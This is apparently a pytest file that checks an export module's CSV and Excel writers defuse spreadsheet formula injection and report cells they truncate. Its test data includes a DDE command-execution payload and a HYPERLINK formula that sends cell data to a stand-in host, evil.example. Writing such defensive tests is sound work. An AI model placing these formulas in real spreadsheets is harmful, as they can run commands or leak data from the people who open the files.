"""Files to download: nothing in CSV or Excel is a formula, Excel says what it cuts, the others are exact."""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from analytics.export import downloads
from analytics.export.downloads import guard, make_csv, make_excel, make_jsonl, make_parquet

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\t=1",
    "\ttext",
    "\r=1",
    "\rtext",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u3000+1",
    "\u200b=1",
    "\ufeff@A1",
    "\u202e=1",
    "\u2060-1",
    "\x00=1",
    "\x0b=1",
    "\u0301=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe66 1",
    "\u22121",
    " \u200b\t =1",
]
HARMLESS = ["", "a=1", "WA1ACMEWEB01", "'=1", "{}", "1-1", "\u00e9=1", "ann@acme.example", " ", "a\t=1", "\U0001f600=1"]


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def read_excel(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book}


def table(**columns):
    return pa.table(columns)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_may_run_gets_an_apostrophe(text):
    assert guard(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_text_that_no_spreadsheet_runs_stays_as_it_is(text):
    assert guard(text) == text


def test_no_cell_of_csv_is_a_formula():
    found = read_csv(make_csv(table(text=[*FORMULAS, *HARMLESS])))
    assert found == [["text"], *[["'" + text] for text in FORMULAS], *[[text] for text in HARMLESS]]


def test_no_cell_of_excel_is_a_formula():
    rows = read_excel(make_excel(table(text=[*FORMULAS, *HARMLESS])))["Rows"]
    cells = [row[0] for row in rows[1:]]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    texts = [cell.value for cell in cells]
    assert [text for text in texts[: len(FORMULAS)] if not text.startswith("'")] == []
    # An end of line alone is another in XML.
    assert texts[: len(FORMULAS)] == [
        "'" + text.replace("\r", "_x000D_").replace("\x00", "_x0000_").replace("\x0b", "_x000B_") for text in FORMULAS
    ]
    assert [text or "" for text in texts[len(FORMULAS) :]] == HARMLESS


@pytest.mark.parametrize("write", [make_csv, make_excel])
def test_no_name_of_a_column_and_no_list_is_a_formula(write):
    rows = table(**{"=1+1": ["a"], "bytes": [b"\xfb\xef\xbe"], "infinite": [float("-inf")]})
    if write is make_csv:
        assert read_csv(write(rows)) == [["'=1+1", "bytes", "infinite"], ["a", "'++++", "'-inf"]]
        return
    found = read_excel(write(rows))["Rows"]
    assert [cell.value for cell in found[0]] == ["'=1+1", "bytes", "infinite"]
    assert [(cell.value, cell.data_type) for cell in found[1]] == [("a", "s"), ("'++++", "s"), ("'-inf", "s")]


def test_csv_quotes_text_so_that_a_semicolon_in_it_separates_nothing():
    data = make_csv(table(name=['a;=1+1;"b"'], count=[-3]))
    assert data == b'"name","count"\r\n"a;=1+1;""b""",-3\r\n'
    assert read_csv(data)[1] == ['a;=1+1;"b"', "-3"]


def test_pandas_reads_the_times_of_csv_whether_or_not_they_have_a_fraction():
    moments = [datetime(2026, 3, 4, 12, tzinfo=UTC), datetime(2026, 3, 4, 12, 0, 0, 250, tzinfo=UTC)]
    read = pd.read_csv(io.BytesIO(make_csv(table(at=moments))), parse_dates=["at"])
    assert list(read["at"]) == moments


def test_csv_has_numbers_times_and_nothing_for_what_is_missing():
    moment = datetime(2026, 3, 4, 12, 0, 0, 5, UTC)
    rows = table(
        at=[moment, None],
        whole=[2**62, None],
        part=[Decimal("-1.50"), None],
        yes=[True, None],
        many=[["=1"], None],
        small=[Decimal("0.000000000"), None],
    )
    assert read_csv(make_csv(rows))[1:] == [
        ["2026-03-04T12:00:00.000005+00:00", str(2**62), "-1.50", "True", '["=1"]', "0.000000000"],
        ["", "", "", "", "", ""],
    ]


def test_excel_has_numbers_truths_and_times_in_utc_and_text_for_what_it_would_round():
    moment = datetime(2026, 3, 4, 14, 30, 15, 250_000, timezone(timedelta(hours=2)))
    rows = table(
        at=[moment.astimezone(UTC)],
        day=[date(2026, 3, 4)],
        old=[date(1850, 1, 2)],
        whole=[-12],
        large=[2**60],
        part=[Decimal("1.25")],
        long=[Decimal("1.1234567890123456789")],
        small=[Decimal("0.0000000001234567890123456789")],
        yes=[True],
        none=pa.array([None], pa.int64()),
    )
    cells = read_excel(make_excel(rows))["Rows"][1]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        (datetime.fromisoformat("2026-03-04 12:30:15.250"), "d"),
        (datetime.fromisoformat("2026-03-04"), "d"),
        ("1850-01-02", "s"),
        (-12, "n"),
        (str(2**60), "s"),
        (1.25, "n"),
        ("1.1234567890123456789", "s"),
        ("0.0000000001234567890123456789", "s"),
        (True, "b"),
        (None, "n"),
    ]


def test_excel_holds_characters_that_xml_has_not_as_escapes():
    data = make_excel(table(text=["a\x00b\x1fc\uffffd\ufffee _x0041_ <&>\U0001f600"]))
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "a_x0000_b_x001F_c\\uffffd\\ufffee _x005F_x0041_ &lt;&amp;&gt;\U0001f600" in sheet
    read_excel(data)


def test_excel_opens_no_address_and_takes_no_digits_for_a_number():
    cells = read_excel(make_excel(table(text=["http://evil.example/", "007", "mailto:ann@acme.example"])))["Rows"]
    assert [(row[0].value, row[0].data_type, row[0].hyperlink) for row in cells[1:]] == [
        ("http://evil.example/", "s", None),
        ("007", "s", None),
        ("mailto:ann@acme.example", "s", None),
    ]


def test_excel_says_nothing_where_all_fits():
    rows = table(text=["x" * 32_767, "=" + "x" * 32_765, "\U0001f600" * 16_383])
    assert downloads.find_cuts(rows).list_sentences() == []
    found = read_excel(make_excel(rows))
    assert list(found) == ["Rows"]
    assert [len(row[0].value) for row in found["Rows"][1:]] == [32_767, 32_767, 16_383]


def test_excel_says_in_each_cell_and_in_a_sheet_that_it_cut_some():
    rows = table(
        name=["a", "b", "c"], text=["x" * 32_768, "short", "\U0001f600" * 20_000], more=["=" + "y" * 32_766, "", ""]
    )
    assert downloads.find_cuts(rows).list_sentences() == ["3 cells cut: a cell of Excel holds 32,767 characters."]
    found = read_excel(make_excel(rows))
    cut, _, wide = [row[1].value for row in found["Rows"][1:]]
    assert cut.endswith("xxx … [cut here, of 32,768 characters]")
    assert len(cut) == 32_767
    assert wide.endswith("\U0001f600 … [cut here, of 40,000 characters]")
    assert [[cell.value for cell in row] for row in found["Cut"]] == [
        ["3 cells cut: a cell of Excel holds 32,767 characters."], ["Parquet and JSON lines hold all of it."],
    ]  # fmt: skip


def test_excel_says_how_many_rows_and_columns_it_left_out(monkeypatch):
    monkeypatch.setattr(downloads, "MOST_ROWS", 3)
    monkeypatch.setattr(downloads, "MOST_COLUMNS", 2)
    rows = table(a=[1, 2, 3, 4, 5], b=["x"] * 5, c=["y" * 40_000] * 5)
    found = read_excel(make_excel(rows))
    assert [[cell.value for cell in row] for row in found["Rows"]] == [["a", "b"], [1, "x"], [2, "x"], [3, "x"]]
    assert [row[0].value for row in found["Cut"]][:2] == [
        "2 rows left out: a sheet of Excel holds 4.",
        "1 column left out: a sheet of Excel holds 2.",
    ]


def test_excel_holds_all_rows_but_those_beyond_its_last():
    rows = table(a=pa.array(range(1_048_580), pa.int32()))
    assert downloads.find_cuts(rows).list_sentences() == ["5 rows left out: a sheet of Excel holds 1,048,576."]
    assert downloads.find_cuts(rows.slice(5)).list_sentences() == []


def test_parquet_is_exactly_the_rows():
    rows = table(
        text=[*FORMULAS, None],
        raw=[b"\x00\xff", *[None] * len(FORMULAS)],
        at=pa.array([1_000_001] * (len(FORMULAS) + 1), pa.timestamp("us", tz="UTC")),
    )
    assert pq.read_table(io.BytesIO(make_parquet(rows))).equals(rows)


def test_json_lines_are_exactly_the_rows():
    bodies = [*FORMULAS, '{"userName": "ann",  "n": 1.50}', "\u2028\ud7ff\uffff\U0001f600 \x7f\x00"]
    data = make_jsonl(table(payload=bodies, raw=[b"\x00\xff"] * len(bodies)))
    assert data.count(b"\n") == len(bodies)
    found = [json.loads(line) for line in data.split(b"\n")[:-1]]
    assert [one["payload"] for one in found] == bodies
    assert found[0] == {"payload": "=1+1", "raw": "AP8="}


@pytest.mark.parametrize("write", [make_csv, make_excel, make_parquet, make_jsonl])
def test_columns_of_one_name_stay_apart_in_each_format(write):
    rows = pa.Table.from_arrays([pa.array([1]), pa.array([2])], names=["n", "n"])
    assert (
        b"n_2" in zipfile.ZipFile(io.BytesIO(write(rows))).read("xl/worksheets/sheet1.xml")
        if (write is make_excel)
        else b"n_2" in write(rows)
    )


def test_a_data_frame_is_written_as_its_rows():
    frame = pd.DataFrame({"name": ["=1", None], "count": [1, 2]}, index=[7, 9])
    assert make_csv(frame) == b'"name","count"\r\n"\'=1",1\r\n"",2\r\n'
    assert make_jsonl(frame) == b'{"name":"=1","count":1}\n{"name":null,"count":2}\n'


@pytest.mark.parametrize("write", [make_csv, make_excel, make_parquet, make_jsonl])
def test_no_rows_make_a_file_too(write):
    data = write(table(name=pa.array([], pa.string())))
    assert (data == b"") == (write is make_jsonl)


def test_a_type_that_parquet_has_not_is_text():
    rows = table(empty=pa.array([{}, None], pa.struct([])))
    assert pq.read_table(io.BytesIO(make_parquet(rows))).column("empty").to_pylist() == ["{}", None]


def test_a_duration_is_exact_in_parquet_and_text_elsewhere():
    rows = table(gap=pa.array([timedelta(days=1, seconds=2), None], pa.duration("us")))
    assert pq.read_table(io.BytesIO(make_parquet(rows))).column("gap").equals(rows.column("gap"))
    assert make_csv(rows) == b'"gap"\r\n"1 day 00:00:02"\r\n""\r\n'
    assert make_jsonl(rows) == b'{"gap":"1 day 00:00:02"}\n{"gap":null}\n'
    sheet = openpyxl.load_workbook(io.BytesIO(make_excel(rows))).active
    assert sheet["A2"].value == "1 day 00:00:02"


def test_a_moment_without_end_is_text_and_in_parquet_exact():
    table = pa.table({"at": pa.array([2**63 - 1], pa.int64()).cast(pa.timestamp("us", "UTC"))})
    assert make_csv(table).decode("utf-8-sig").splitlines() == ['"at"', '"infinity"']
    assert json.loads(make_jsonl(table)) == {"at": "infinity"}
    sheet = openpyxl.load_workbook(io.BytesIO(make_excel(table))).active
    assert [row[0].value for row in sheet.iter_rows()] == ["at", "infinity"]
    assert pq.read_table(io.BytesIO(make_parquet(table))).column("at").cast(pa.int64()).to_pylist() == [2**63 - 1]
